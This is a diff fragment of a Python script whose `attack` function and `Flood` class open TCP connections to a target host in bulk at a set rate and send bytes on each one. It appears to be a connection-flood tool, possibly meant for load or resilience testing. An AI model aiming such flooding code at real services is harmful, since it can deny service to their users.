@@ -13,6 +13,7 @@ import subprocess
 import sys
 import time
 from collections import deque
+from contextlib import suppress
 from types import TracebackType
 
 TURN = 0.005
@@ -53,21 +54,13 @@ def attack(host: str, port: int, rate: float, words: bytes) -> int:
             held.append(one)
             one.connect_ex((host, port))
             opened += 1
-        if words:
-            for one in list(held)[-int(rate / 20) :]:
-                speak(one, words)
+            # Near by, the kernel has connected it at once; far away, it has not and stays silent.
+            if words:
+                with suppress(OSError):
+                    one.send(words)
         if rate * (time.monotonic() - began) - opened > rate:
             began = time.monotonic() - opened / rate  # what was missed is not made up for
     return opened
-
-
-def speak(one: socket.socket, words: bytes) -> None:
-    try:
-        if not one.getsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY):
-            one.send(words)
-            one.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)  # has spoken
-    except OSError:
-        pass  # not connected yet, or refused
 
 
 class Flood:
